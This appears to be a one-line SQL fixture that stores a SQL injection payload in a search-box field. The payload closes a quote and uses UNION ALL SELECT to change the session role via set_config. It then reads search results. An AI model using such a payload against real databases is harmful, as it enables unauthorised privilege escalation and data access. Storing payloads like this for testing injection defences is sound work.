UPDATE search_box SET typed = $typed$x' UNION ALL SELECT 0, set_config('role', 'support', true) UNION ALL SELECT id, title FROM search('') --$typed$;
